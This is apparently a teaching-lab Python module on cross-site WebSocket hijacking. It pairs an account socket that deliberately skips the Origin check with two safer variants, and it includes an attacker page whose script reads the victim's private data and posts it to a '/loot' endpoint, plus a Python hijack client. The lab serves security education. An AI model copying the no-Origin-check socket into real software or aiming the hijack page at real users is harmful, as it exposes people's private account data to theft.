"""Cross-site WebSocket hijacking (CSWSH): a socket that skips the Origin check, and the attack on it.

Browsers attach cookies to a WebSocket handshake whatever page opens it (unless ``SameSite``
holds them back), and neither the same-origin policy nor CORS applies to WebSockets: the server
must check ``Origin`` itself (RFC 6455 §10.2). Lesson 10 shows it with three account sockets
(no check, Tornado's default, the app's policy) mounted on a real QR-login server
(:func:`add_account_sockets`), attacked from a page on another origin (:class:`EvilSiteApp`,
for a real browser) and from Python (:func:`hijack`).
"""
from __future__ import annotations

import asyncio
import json
from typing import Any

import tornado.httpclient
import tornado.websocket

from lab.chromium import CHROMIUM_ARGS, find_chromium
from servers import runtime
from servers.qrlogin import auth
from servers.runtime import ServerApp, ServerHandle, serve
from servers.web import BaseHandler, BaseWebSocketHandler


ACCOUNT_PATHS = {"vulnerable": "/lesson10/vulnerable/account/ws", "tornado_default": "/lesson10/tornado-default/account/ws",
                 "protected": "/lesson10/protected/account/ws"}


class VulnerableAccountSocket(BaseWebSocketHandler):
    """DELIBERATELY VULNERABLE (lesson 10 only): a cookie-authenticated WebSocket with no Origin check.

    It trusts the session cookie alone and sends the logged-in user's private data. Any page the
    user visits can open it: the browser attaches the cookie to the handshake, whatever page
    asked. ``check_origin`` returning True is the whole mistake (Tornado's default would refuse a
    foreign Origin - but still accept a missing one).
    """

    def check_origin(self, origin: str) -> bool:
        return True  # THE BUG: never look at Origin

    def refusal(self) -> str | None:
        return None

    async def open(self) -> None:
        reason = self.refusal()
        if reason:
            self.close(1008, reason)
            return
        accounts = self.application.accounts  # type: ignore[attr-defined]
        user = await accounts.user_for_session(self.get_cookie(auth.SESSION_COOKIE))
        if user is None:
            self.close(1008, "not logged in (no valid session cookie)")
            return
        private = {"user": user, "email": f"{user}@example.test", "unread_messages": 3,
                   "note": f"{user}'s private data, sent because the session cookie came along"}
        self.write_message(json.dumps(private)).add_done_callback(lambda f: f.exception())

    def on_message(self, message: Any) -> None:
        self.close(1003, "this socket only talks")


class TornadoDefaultAccountSocket(VulnerableAccountSocket):
    """The same socket with Tornado's default ``check_origin``: a foreign Origin gets a 403 at the
    handshake, but a handshake *without* Origin is never checked at all."""

    check_origin = tornado.websocket.WebSocketHandler.check_origin


class ProtectedAccountSocket(VulnerableAccountSocket):
    """The same socket with the QR-login app's WebSocket Origin policy (closed 1008 before any data)."""

    def refusal(self) -> str | None:
        app = self.application
        return auth.socket_origin_refusal(self.request, getattr(app, "public_url", None),
                                          getattr(app, "allowed_origins", ()))


def add_account_sockets(handle: ServerHandle) -> dict[str, str]:
    """Mount the three account sockets on a running QR-login server; their ``ws://`` URLs by kind."""

    def mount(app: Any) -> None:
        if not getattr(app, "_lesson10_sockets", False):
            app.add_handlers(r".*", [(ACCOUNT_PATHS["vulnerable"], VulnerableAccountSocket),
                                     (ACCOUNT_PATHS["tornado_default"], TornadoDefaultAccountSocket),
                                     (ACCOUNT_PATHS["protected"], ProtectedAccountSocket)])
            app._lesson10_sockets = True

    handle.call(mount)
    return {kind: handle.ws_url + path for kind, path in ACCOUNT_PATHS.items()}


async def hijack_async(ws_url: str, origin: str | None = None, cookies: dict[str, str] | None = None,
                       timeout: float = 5.0) -> dict[str, Any]:
    """Open ``ws_url`` as a browser on another page would: with that page's Origin and the victim's cookies.

    Returns ``outcome`` ("read" when data came back, "refused" otherwise), what was read, and the
    close code and reason (or the HTTP status of a refused handshake).
    """
    headers = {}
    if origin is not None:
        headers["Origin"] = origin
    if cookies:
        headers["Cookie"] = "; ".join(f"{k}={v}" for k, v in cookies.items())
    request = tornado.httpclient.HTTPRequest(ws_url, headers=headers, connect_timeout=timeout, request_timeout=timeout)
    result: dict[str, Any] = {"origin": origin, "cookies": bool(cookies), "outcome": "refused", "data": None,
                              "status": 101, "close_code": None, "close_reason": None}
    try:
        conn = await tornado.websocket.websocket_connect(request)
    except tornado.httpclient.HTTPClientError as exc:
        result["status"] = exc.code
        return result
    messages = []
    while True:
        message = await asyncio.wait_for(conn.read_message(), timeout)
        if message is None:
            break
        messages.append(json.loads(message))
        if len(messages) == 1:
            conn.close(1000)
    if messages:
        result["outcome"], result["data"] = "read", messages[0]
    result["close_code"], result["close_reason"] = conn.close_code, conn.close_reason
    return result


def hijack(ws_url: str, origin: str | None = None, cookies: dict[str, str] | None = None,
           timeout: float = 5.0) -> dict[str, Any]:
    """:func:`hijack_async`, blocking (for a cell)."""
    return runtime.run(hijack_async(ws_url, origin, cookies, timeout), timeout=timeout + 5)


_EVIL_PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Free prizes!</title></head>
<body><h1>Congratulations, you won!</h1><p>(This page is lesson 10's attacker, on another origin.)</p>
<pre id="log"></pre>
<script>
"use strict";
const target = %s;
const log = (line) => { document.getElementById("log").textContent += line + "\\n"; };
const report = (obj) => fetch("loot", {method: "POST", body: JSON.stringify(obj)});
const ws = new WebSocket(target);
ws.onmessage = (e) => { log("read: " + e.data); report({read: JSON.parse(e.data)}); };
ws.onclose = (e) => { log("closed " + e.code + " " + e.reason); report({closed: e.code, reason: e.reason}); };
</script></body></html>
"""


class _EvilPage(BaseHandler):
    def get(self) -> None:
        app: EvilSiteApp = self.application  # type: ignore[assignment]
        self.set_header("Content-Type", "text/html; charset=UTF-8")
        self.finish(_EVIL_PAGE % json.dumps(app.target_ws_url).replace("</", "<\\/"))


class _EvilLoot(BaseHandler):
    def get(self) -> None:
        self.write_json({"loot": self.application.loot})  # type: ignore[attr-defined]

    def post(self) -> None:
        app: EvilSiteApp = self.application  # type: ignore[assignment]
        app.record(self.json_body())
        self.write_json({"ok": True})


class EvilSiteApp(ServerApp):
    """The attacker's page, served from another origin (another port): it opens ``target_ws_url``
    in the visitor's browser and posts whatever it reads, or how it was closed, to ``/loot``."""

    def __init__(self, target_ws_url: str, name: str = "evil-site") -> None:
        super().__init__([(r"/", _EvilPage), (r"/loot", _EvilLoot)], name=name)
        self.target_ws_url = target_ws_url
        self.loot: list[dict[str, Any]] = []
        self._waiters: list[asyncio.Future] = []

    def record(self, item: dict[str, Any]) -> None:
        self.loot.append(item)
        for waiter in self._waiters:
            if not waiter.done():
                waiter.set_result(item)
        self._waiters.clear()

    async def wait_for_reports(self, count: int = 1, timeout: float = 10.0) -> list[dict[str, Any]]:
        """The first ``count`` reports of the page (read data, or a close), waiting for them if need be."""

        async def wait() -> list[dict[str, Any]]:
            while len(self.loot) < count:
                waiter = asyncio.get_running_loop().create_future()
                self._waiters.append(waiter)
                await waiter
            return list(self.loot[:count])

        return await asyncio.wait_for(wait(), timeout)


def start_evil_site(target_ws_url: str, name: str = "evil-site") -> ServerHandle:
    """Start the attacker's page on a free port (another origin than the target)."""
    return serve(EvilSiteApp(target_ws_url, name))


# ---------------------------------------------------------------------------------------------
# SameSite in a real browser: a page on another *site* versus a page on another *port*.

#: Host names a real Chromium resolves to loopback (``--host-resolver-rules``), so one machine
#: shows it two registrable domains, hence two sites.
VICTIM_HOST, ATTACKER_HOST = "victim.test", "attacker.test"
CHROMIUM_FLAGS = [*CHROMIUM_ARGS, "--disable-features=HttpsUpgrades",
                  f"--host-resolver-rules=MAP {VICTIM_HOST} 127.0.0.1, MAP {ATTACKER_HOST} 127.0.0.1"]
chromium_executable = find_chromium  # the name the lesson calls it by


def same_site_in_chromium(victim: ServerHandle, session_cookie: str, kind: str = "vulnerable",
                          executable: str | None = None, timeout: float = 20.0) -> list[dict[str, Any]]:
    """Open the attacker's page in a real headless Chromium, twice: served as another site
    (``http://attacker.test:P/``) and as the victim's own site on another port
    (``http://victim.test:P/``); each page opens the ``kind`` account socket of ``victim`` at
    ``ws://victim.test:Q/...``. The browser holds the victim's session cookie for ``victim.test``
    with ``SameSite=Lax``. One row per page: its URL, whether it is the victim's site, and
    what the page got (``read``: the cookie went along; ``closed``: it did not, or Origin refused).
    """
    import concurrent.futures

    path = executable or chromium_executable()
    if path is None:
        raise RuntimeError("Chromium not found: install it (Debian: apt-get install chromium) or set CHROMIUM=path")
    add_account_sockets(victim)
    target = f"ws://{VICTIM_HOST}:{victim.port}{ACCOUNT_PATHS[kind]}"
    evil = serve(EvilSiteApp(target, "same-site-demo"))
    pages = [(f"http://{ATTACKER_HOST}:{evil.port}/", False), (f"http://{VICTIM_HOST}:{evil.port}/", True)]

    def drive() -> list[dict[str, Any]]:  # Playwright's sync API refuses a thread with a running loop
        from playwright.sync_api import sync_playwright

        rows = []
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=path, headless=True, args=CHROMIUM_FLAGS)
            try:
                context = browser.new_context()
                context.add_cookies([{"name": auth.SESSION_COOKIE, "value": session_cookie,
                                      "url": f"http://{VICTIM_HOST}:{victim.port}/", "httpOnly": True,
                                      "sameSite": "Lax"}])
                for number, (url, same_site) in enumerate(pages, start=1):
                    page = context.new_page()
                    page.goto(url)
                    report = runtime.run(evil.app.wait_for_reports(number, timeout=timeout),
                                         timeout=timeout + 5)[-1]
                    page.close()
                    rows.append({"attacker's page": url, "socket": target, "same site as the socket": same_site,
                                 "outcome": "read" if "read" in report else "closed",
                                 "got": json.dumps(report.get("read")) if "read" in report
                                 else f"close {report.get('closed')}: {report.get('reason')}"})
            finally:
                browser.close()
        return rows

    try:
        with concurrent.futures.ThreadPoolExecutor(1) as pool:
            return pool.submit(drive).result(timeout=4 * timeout)
    finally:
        evil.stop()
